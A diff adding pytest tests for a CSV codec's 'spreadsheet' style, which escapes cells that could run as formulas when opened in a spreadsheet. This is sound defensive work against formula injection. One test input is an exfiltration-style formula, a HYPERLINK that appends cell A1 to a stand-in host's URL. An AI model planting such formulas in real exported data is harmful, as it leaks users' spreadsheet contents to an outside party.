@@ -20,6 +20,7 @@ from entrepot.records.csv_codec import (
     columns,
     parse_cell,
     render_cell,
+    render_header,
     render_row,
     split_record,
 )
@@ -242,6 +243,93 @@ def test_render_row_quotes_per_rfc_4180() -> None:
     }
 
 
+# --- the spreadsheet style ---------------------------------------------------
+
+FORMULA_FIRST = ["=", "+", "-", "@", "\t", "\r"]
+COLUMN_TYPES = [STRING, None, frozenset({"string", "integer", "boolean", "null"})]
+
+
+@pytest.mark.parametrize("types", COLUMN_TYPES)
+@pytest.mark.parametrize("first", FORMULA_FIRST)
+@pytest.mark.parametrize("rest", ["", "1+2", 'HYPERLINK("https://x.example/?"&A1)', "5"])
+def test_spreadsheet_style_prefixes_strings_that_would_be_formulas(
+    first: str, rest: str, types: frozenset[str] | None
+) -> None:
+    value = first + rest
+    assert render_cell(value, types, "spreadsheet") == "'" + value
+
+
+@pytest.mark.parametrize("types", COLUMN_TYPES)
+@pytest.mark.parametrize(
+    "value",
+    [
+        "plain",
+        "a=b",
+        "x-1",
+        "mail@example.org",
+        "tab\tinside",
+        "1+2",
+        " =leading space",
+        "'=already quoted",
+        "",
+        '"quoted"',
+        "12",
+        "true",
+        "null",
+        None,
+        True,
+        False,
+        -5,
+        -1.5e-7,
+        -12345678901234567890,
+        0,
+        {"f": "=1+2", "n": -1},
+        ["=1", "-2", -3],
+    ],
+)
+def test_spreadsheet_style_leaves_everything_else_as_exact(
+    value: Any, types: frozenset[str] | None
+) -> None:
+    assert render_cell(value, types, "spreadsheet") == render_cell(value, types)
+
+
+def test_numbers_stay_numbers_strings_that_look_like_them_are_text() -> None:
+    assert render_cell(-5, None, "spreadsheet") == "-5"
+    assert render_cell(-5, frozenset({"integer"}), "spreadsheet") == "-5"
+    assert render_cell("-5", None) == '"-5"'  # exact: a JSON string, reads back as one
+    assert render_cell("-5", None, "spreadsheet") == "'-5"
+    assert render_cell("-5", STRING, "spreadsheet") == "'-5"
+
+
+def test_exact_style_is_the_default_and_writes_formula_text_as_is() -> None:
+    for value in ("=1+2", "+5", "@SUM(A1:A2)", "\tx", "\rx", "-x"):
+        assert render_cell(value, STRING) == render_cell(value, STRING, "exact") == value
+        assert parse_cell(render_cell(value, STRING), STRING) == value
+
+
+def test_spreadsheet_header_and_rows() -> None:
+    assert render_header(["=x", "ok", "-y"]) == "=x,ok,-y\r\n"
+    assert render_header(["=x", "ok", "-y"], "spreadsheet") == "'=x,ok,'-y\r\n"
+    names = columns(SCHEMA)
+    record = {"s": "\r=1", "i": -3, "n": -0.5, "mix": "@x", "any": "=A1", "sn": None}
+    line = render_row(names, SCHEMA, record, "spreadsheet")
+    assert line.startswith('"\'\r=1",-3,-0.5,')  # a carriage return still needs RFC 4180 quotes
+    cells = dict(zip(names, split_record(line[:-2]), strict=True))
+    assert cells == {
+        "s": "'\r=1",
+        "i": "-3",
+        "n": "-0.5",
+        "b": "",
+        "o": "",
+        "a": "",
+        "sn": "null",
+        "mix": "'@x",
+        "any": "'=A1",
+    }
+    assert render_row(names, SCHEMA, record) == render_row(names, SCHEMA, record, "exact")
+    assert split_record(render_row(names, SCHEMA, record)[:-2])[0] == "\r=1"
+
+
 # --- the round trip ----------------------------------------------------------
 
 TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"))
@@ -282,3 +370,13 @@ def test_rendered_records_parse_back_unchanged(records: list[dict[str, Any]]) ->
         assert errors == []
         back.append(record)
     assert [canonical(r) for r in back] == [canonical(r) for r in records]
+
+
+@given(RECORD)
+def test_a_spreadsheet_cell_starts_like_a_formula_only_for_a_number(
+    record: dict[str, Any],
+) -> None:
+    for name, value in record.items():
+        cell = render_cell(value, SCHEMA.property_types.get(name), "spreadsheet")
+        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+            assert type(value) in (int, float), (value, cell)
